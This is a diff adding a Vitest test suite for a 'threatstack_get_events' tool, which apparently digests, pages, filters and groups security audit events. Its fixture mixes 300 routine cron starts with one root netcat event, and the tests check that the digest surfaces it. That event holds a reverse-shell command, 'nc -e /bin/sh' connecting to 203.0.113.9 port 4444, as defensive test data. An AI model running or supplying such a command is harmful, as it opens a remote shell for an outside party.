@@ -1,0 +1,119 @@
+import { expect, test } from "vitest";
+import { makeAlert, makeTenant, NOW } from "../support/make-tenant.ts";
+import { startTools } from "../support/start-tools.ts";
+
+const ALERT = "2abca110-cb87-41ea-b55e-4f5cfb08a8d1";
+
+/** 300 routine starts of cron and one of netcat. */
+const events = Array.from({ length: 301 }, (_, index) => ({
+  _id: `${String(index).padStart(8, "0")}-0000-4000-8000-000000000000`,
+  event_type: "audit",
+  type: "start",
+  syscall: "execve",
+  timestamp: NOW - 1_000_000 + index * 1000,
+  user: index === 150 ? "root" : "app",
+  exe: index === 150 ? "/usr/bin/nc" : "/usr/sbin/cron",
+  command: index === 150 ? "nc" : "cron",
+  arguments: index === 150 ? "nc -e /bin/sh 203.0.113.9 4444" : `cron --job ${index}`,
+  pid: 1000 + index,
+}));
+
+const tenant = makeTenant({ alerts: [makeAlert({ id: ALERT })], events: { [ALERT]: events } });
+
+test("folds every event into a digest that names the one that matters", async () => {
+  const { call } = await startTools({ tenant });
+
+  const { text, core } = await call("threatstack_get_events", { alert_id: ALERT });
+
+  expect(text).toMatch(/^301 events/m);
+  expect(text).toContain("nc -e /bin/sh 203.0.113.9 4444");
+  expect(core.total).toBe(301);
+});
+
+test.each([300, 500, 1000])(
+  "a digest of %i tokens holds to it and still names it",
+  async (budget) => {
+    const { call } = await startTools({ tenant });
+
+    const { text, tokens } = await call("threatstack_get_events", {
+      alert_id: ALERT,
+      max_tokens: budget,
+    });
+
+    expect(tokens).toBeLessThanOrEqual(budget);
+    expect(text).toMatch(/nc -e/);
+  },
+);
+
+test("rows reach every event once, in order, whatever the budget", async () => {
+  const { call } = await startTools({ tenant });
+  const seen: string[] = [];
+  let cursor: string | null | undefined;
+  do {
+    const { text, core, tokens } = await call("threatstack_get_events", {
+      alert_id: ALERT,
+      detail: "rows",
+      max_tokens: 1500,
+      ...(cursor && { cursor }),
+    });
+    expect(tokens).toBeLessThanOrEqual(1500);
+    expect(core.total).toBe(301);
+    seen.push(...(text.match(/\d{8}-0000-4000-8000-000000000000/g) ?? []));
+    cursor = core.next_cursor;
+  } while (cursor);
+
+  expect([...new Set(seen)]).toEqual(events.map((event) => event._id));
+});
+
+test("a filter, a group or an id opens a part, and asking again costs no download", async () => {
+  const { call, requests } = await startTools({ tenant });
+
+  const where = await call("threatstack_get_events", {
+    alert_id: ALERT,
+    where: 'user = "root" and exe ends_with "nc"',
+  });
+  expect(where.core).toMatchObject({ total: 1, shown: 1, ids: ["00000150"] });
+
+  const digest = await call("threatstack_get_events", { alert_id: ALERT });
+  const [, group] = /300× (\w+)/.exec(digest.text) ?? [];
+  const ofGroup = await call("threatstack_get_events", { alert_id: ALERT, group });
+  expect(ofGroup.core.total).toBe(300);
+
+  const raw = await call("threatstack_get_events", { alert_id: ALERT, event_ids: ["00000150"] });
+  expect(raw.text).toContain(JSON.stringify(events[150]));
+  expect(requests()).toBe(1);
+});
+
+test.each([
+  [{ where: "user ==" }, /^where, character 6: /],
+  [{ group: "" }, /^group: /],
+  [{ detail: "all" }, /^detail: /],
+  [{ detail: "rows", cursor: "bogus" }, /cursor/],
+])("%j is refused", async (input, message) => {
+  const { call } = await startTools({ tenant });
+
+  await expect(call("threatstack_get_events", { alert_id: ALERT, ...input })).rejects.toMatchObject(
+    {
+      code: "invalid_argument",
+      message: expect.stringMatching(message),
+    },
+  );
+});
+
+test("a near miss of a field is told, not guessed", async () => {
+  const { call } = await startTools({ tenant });
+
+  const { text } = await call("threatstack_get_events", { alert_id: ALERT, where: 'usr = "root"' });
+
+  expect(text).toContain('note: "usr" may mean "user"');
+  expect(text).toMatch(/0 events selected of 301/);
+});
+
+test("an alert without events says so", async () => {
+  const { call } = await startTools({ tenant: makeTenant({ alerts: [makeAlert({ id: ALERT })] }) });
+
+  const { text, core } = await call("threatstack_get_events", { alert_id: ALERT });
+
+  expect(text).toMatch(/^0 events/);
+  expect(core.total).toBe(0);
+});
